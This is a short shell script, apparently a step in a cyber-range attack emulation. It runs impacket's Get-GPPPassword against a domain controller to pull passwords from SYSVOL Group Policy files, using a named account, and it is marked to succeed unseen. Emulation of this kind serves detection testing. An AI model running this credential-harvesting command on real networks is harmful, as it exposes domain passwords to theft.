# SPDX-License-Identifier: Apache-2.0
# what: passwords looked for in the policies of SYSVOL
# technique: T1552.006
# from: ws1
# to: dc1
# account: alice
# outcome: success
# must: unseen
. "$RANGE_HERE/item.sh"
says 'sysvol' impacket Get-GPPPassword "CORP/alice:$USER_PASSWORD@$dc1"
